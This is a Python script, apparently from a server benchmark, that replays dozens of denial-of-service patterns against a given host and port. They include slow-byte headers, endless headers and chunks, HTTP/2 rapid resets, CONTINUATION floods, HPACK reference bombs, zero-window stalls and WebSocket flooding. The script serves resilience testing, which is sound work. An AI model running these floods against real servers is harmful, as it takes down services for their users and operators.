"""
What attackers send, as data: what a connection begins with, and what it says
again and again. Each is valid, or refused, by the RFCs; none is meant for
anything but the interface server of the benchmark.

    python attacks.py HOST:PORT NAME

plays the attack NAME until it is killed.
"""
import asyncio
import collections
import itertools
import os
import resource
import struct
import sys

#: name, protocol, connections, what each begins with, what it then repeats
#: (bytes, or a function that returns an iterator of bytes), seconds between
#: two of those, and whether the client reads.
Attack = collections.namedtuple('Attack', 'name protocol connections opening repeated pause reads')

#: Those that ask for what workers have to do: others have their share of them,
#: and wait until one has done what it is at.
TAKE_WORKERS = frozenset([
    'HTTP/1.1: requests, one connection', 'HTTP/1.1: pipelined requests, unread',
    'HTTP/1.1: responses of 10 MB, unread', 'HTTP/1.1: a body as fast as it goes',
    'HTTP/2: a thousand streams at once', 'HTTP/2: requests, one connection', 'HTTP/2: responses without a window',
    'HTTP/2: requests without a window', 'WebSocket: opens and says nothing', 'WebSocket: opens and goes',
    'WebSocket: messages, one socket', 'WebSocket: empty messages, many sockets', 'WebSocket: messages of 1 MB',
    'WebSocket: messages, answers unread',
])

#: Those of them whose single requests take a worker long.
LONG_REQUESTS = frozenset([
    'HTTP/1.1: responses of 10 MB, unread', 'HTTP/2: responses without a window',
])

MANY = 500
HOST = b'Host: x\r\n'
GET = b'GET /hello/ HTTP/1.1\r\n' + HOST
POST = b'POST /upload/ HTTP/1.1\r\n' + HOST
CHUNKED = POST + b'Transfer-Encoding: chunked\r\n\r\n'
UPGRADE = (
    b'GET /echo/ HTTP/1.1\r\n' + HOST + b'Upgrade: websocket\r\nConnection: Upgrade\r\n'
    b'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n'
)

# HTTP/2 (RFC 9113): types of frames, flags, and fields in HPACK's table.
DATA, HEADERS, PRIORITY, RST, SETTINGS, _, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK, PADDED = 1, 4, 1, 8


def frame(kind, flags=0, stream=0, payload=b''):
    """Return a frame of HTTP/2."""
    return struct.pack('!I', len(payload))[1:] + struct.pack('!BBI', kind, flags, stream) + payload


def literal(index, value):
    """Return a field that isn't kept in the table, with the name at `index`."""
    return bytes([index, len(value)]) + value


PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS)
NO_WINDOW = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, payload=struct.pack('!HI', 4, 0))
H2_GET = b'\x82\x86' + literal(4, b'/hello/') + literal(1, b'x')
H2_STREAM = b'\x82\x86' + literal(4, b'/stream/') + literal(1, b'x')
H2_POST = b'\x83\x86' + literal(4, b'/upload/') + literal(1, b'x')
#: A header that isn't allowed over HTTP/2.
H2_BAD = H2_GET + b'\x00\x0aconnection\x05close'
# 4,000 bytes for the table, and references to them.
BOMB = b'\x40\x01a\x7f' + b'\xa1\x1e' + b'x' * 4000
REFERENCES = b'\xbe' * 4000


def streams(make, first=1):
    """Return a function that yields make(number) for stream after stream."""
    return lambda: (make(number) for number in range(first, 2 ** 31, 2))


def request(number, fields=H2_GET, more=b''):
    return frame(HEADERS, END_HEADERS | (0 if more else END_STREAM), number, fields) + more


def in_hundreds(make):
    """Return a function that yields what hundreds of streams send at once."""
    return lambda: (b''.join(make(number + 2 * each) for each in range(100)) for number in range(1, 2 ** 31, 200))


def mask(opcode, payload=b'', fin=0x80):
    """Return a client's WebSocket frame; a mask of zeros is one."""
    size = len(payload)
    if size < 126:
        head = struct.pack('!BB', fin | opcode, 0x80 | size)
    elif size < 65536:
        head = struct.pack('!BBH', fin | opcode, 0xfe, size)
    else:
        head = struct.pack('!BBQ', fin | opcode, 0xff, size)
    return head + bytes(4) + payload


def http1():
    """Yield the attacks over HTTP/1.1."""
    def attack(name, opening, repeated=b'', connections=1, pause=0.0, reads=True):
        return Attack(name, 'HTTP/1.1', connections, opening, repeated, pause, reads)

    yield attack('says nothing', b'', b'', MANY, 1)
    yield attack('connects and goes', b'', None, 50)
    yield attack('headers, a byte a second', GET + b'X: ', b'x', MANY, 1)
    yield attack('request line without an end', b'GET /', b'x' * 65536, 20)
    yield attack('header without an end', GET + b'X: ', b'x' * 65536, 20)
    yield attack('headers without an end', GET, b'X: y\r\n' * 10000, 20)
    yield attack('blank lines', b'', b'\r\n' * 32768, 20)
    yield attack('requests, one connection', b'', (GET + b'\r\n') * 10, 1, 0.001)
    yield attack('requests that are refused', b'', b'GET / HTTP/1.1\r\n\r\n', 50)
    yield attack('requests in versions to come', b'', b'GET / HTTP/3.1\r\n\r\n', 50)
    yield attack('pipelined requests, unread', b'', (GET + b'\r\n') * 90, 20, 1, False)
    yield attack('bodies that do not come', POST + b'Content-Length: 1000000\r\n\r\nx', b'', MANY, 1)
    yield attack('bodies, a byte a second', POST + b'Content-Length: 1000000\r\n\r\n', b'x', MANY, 1)
    yield attack('bodies of 200 kB that stop', POST + b'Content-Length: 1000000\r\n\r\n' + b'x' * 200000, b'', MANY, 1)
    yield attack('a body as fast as it goes', POST + b'Content-Length: 999999999\r\n\r\n', b'x' * 65536)
    yield attack('chunks of one byte', CHUNKED, b'1\r\nx\r\n' * 10000)
    yield attack('chunks of one byte, many', CHUNKED, b'1\r\nx\r\n' * 1000, 50)
    yield attack('extension without an end', CHUNKED + b'1;', b'x' * 65536, 20)
    yield attack('trailers without an end', CHUNKED + b'0\r\n', b'X: y\r\n' * 10000, 20)
    yield attack('responses of 10 MB, unread', b'GET /stream/ HTTP/1.1\r\n' + HOST + b'\r\n', b'', 40, 1, False)
    yield attack('bodies that wait to be asked for', POST + b'Expect: 100-continue\r\nContent-Length: 9\r\n\r\n', b'',
                 MANY, 1)


def http2():
    """Yield the attacks over HTTP/2."""
    def attack(name, repeated=b'', connections=1, opening=PREFACE, pause=0.0, reads=True):
        return Attack(name, 'HTTP/2', connections, opening, repeated, pause, reads)

    body = request(1, H2_POST, frame(DATA, 0, 1, b''))
    closed = request(1, H2_BAD)
    yield attack('half a preface', b'', MANY, b'PRI * HTTP/2.0\r\n', 1)
    yield attack('says nothing more', b'', MANY, pause=1)
    yield attack('settings', frame(SETTINGS) * 2000, 5)
    yield attack('acknowledgments', frame(SETTINGS, ACK) * 2000, 5)
    yield attack('pings', frame(PING, 0, 0, bytes(8)) * 2000, 5)
    yield attack('priorities', frame(PRIORITY, 0, 1, bytes([0, 0, 0, 3, 1])) * 2000, 5)
    yield attack('windows', frame(WINDOW, 0, 0, b'\0\0\0\1') * 2000, 5)
    yield attack('unknown frames', frame(99, 0, 0, b'') * 2000, 5)
    yield attack('goodbyes', frame(GOAWAY, 0, 0, bytes(8)) * 2000, 5)
    yield attack('empty data', frame(DATA, 0, 1, b'') * 2000, 5, PREFACE + body)
    yield attack('data of one byte', frame(DATA, 0, 1, b'x') * 2000, 5, PREFACE + body)
    yield attack('padding', frame(DATA, PADDED, 1, b'\xff' + bytes(255)) * 200, 5, PREFACE + body)
    yield attack('data on a closed stream', frame(DATA, 0, 1, b'x') * 2000, 5, PREFACE + closed)
    yield attack('resets', streams(lambda number: request(number) + frame(RST, 0, number, b'\0\0\0\x08')), 5)
    yield attack('a thousand streams at once', in_hundreds(request), 20)
    yield attack('requests, one connection', streams(request), 1, pause=0.0005)
    yield attack('requests that are refused', streams(lambda number: request(number, H2_BAD)), 5)
    yield attack('responses without a window', in_hundreds(
        lambda number: request(number, H2_STREAM)), 5, NO_WINDOW, 30)
    yield attack('requests without a window', in_hundreds(request), 50, NO_WINDOW, 30)
    yield attack('bodies that do not come', in_hundreds(
        lambda number: request(number, H2_POST, frame(DATA, 0, number, b'x'))), 50, pause=30)
    yield attack('continuations, endless', frame(CONTINUATION, 0, 1, b''), 20, PREFACE + frame(HEADERS, 1, 1, H2_GET))
    yield attack('a block of headers that stops', b'', MANY, PREFACE + frame(HEADERS, 1, 1, b'\x40\x01a\x7f')
                 + frame(CONTINUATION, 0, 1, bytes(16000)) * 40, 1)
    yield attack('references to a large header', streams(
        lambda number: frame(HEADERS, 5, number, H2_GET + REFERENCES), 3), 5,
        PREFACE + frame(HEADERS, 5, 1, H2_GET + BOMB))


def websocket():
    """Yield the attacks over WebSocket."""
    def attack(name, repeated=b'', connections=1, pause=0.0, reads=True, opening=UPGRADE):
        return Attack(name, 'WebSocket', connections, opening, repeated, pause, reads)

    yield attack('opens and says nothing', b'', MANY, 1)
    yield attack('opens and goes', None, 50)
    yield attack('messages, one socket', mask(1, b'x') * 100)
    yield attack('empty messages, many sockets', mask(1) * 50, 50)
    yield attack('pings', mask(9) * 2000, 5)
    yield attack('pongs', mask(10) * 2000, 5)
    yield attack('fragments of one byte', mask(1, b'x', 0) + mask(0, b'x', 0) * 5000, 5)
    yield attack('messages of 1 MB', mask(2, bytes(1000000)), 5, 0.05)
    yield attack('half a message of 1 MB', mask(2, bytes(1000000))[:500000], 50, 30)
    yield attack('messages, answers unread', mask(1, b'x' * 1000) * 20, 50, 0.5, False)
    yield attack('text that is none', mask(1, b'\xff'), 50)
    yield attack('a byte each', mask(10), MANY, 1)
    yield attack('a handshake that is none', None, 50, opening=UPGRADE.replace(b'13', b'12'))


ATTACKS = [*http1(), *http2(), *websocket()]


async def discard(reader):
    """Read until the end."""
    while await reader.read(65536):
        pass


async def play_once(attack, host, port):
    """Play the part of one connection, until the server ends it."""
    reader, writer = await asyncio.open_connection(host, port)
    reading = None
    try:
        writer.write(attack.opening)
        if attack.protocol == 'WebSocket':
            await reader.readuntil(b'\r\n\r\n')
        if attack.repeated is None:
            return
        reading = asyncio.ensure_future(discard(reader) if attack.reads else asyncio.sleep(10 ** 6))
        say = attack.repeated() if callable(attack.repeated) else itertools.repeat(attack.repeated)
        for data in say:
            writer.write(data)
            await asyncio.wait([reading, asyncio.ensure_future(writer.drain())],
                               return_when=asyncio.FIRST_COMPLETED)
            await asyncio.wait([reading], timeout=attack.pause)
            if reading.done():
                return
    finally:
        if reading is not None:
            reading.cancel()
        writer.transport.abort()


async def play(attack, host, port):
    """Play it, connection after connection."""
    while True:
        try:
            await play_once(attack, host, port)
        except (OSError, EOFError):
            pass
        # Whoever comes again at once is slowed down by his own machine.
        await asyncio.sleep(0.01)


async def main(target, name):
    host, _, port = target.rpartition(':')
    [attack] = [attack for attack in ATTACKS if '%s: %s' % (attack.protocol, attack.name) == name]
    await asyncio.gather(*[play(attack, host, int(port)) for _ in range(attack.connections)])


if __name__ == '__main__':
    os.nice(10)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    asyncio.run(main(*sys.argv[1:]))
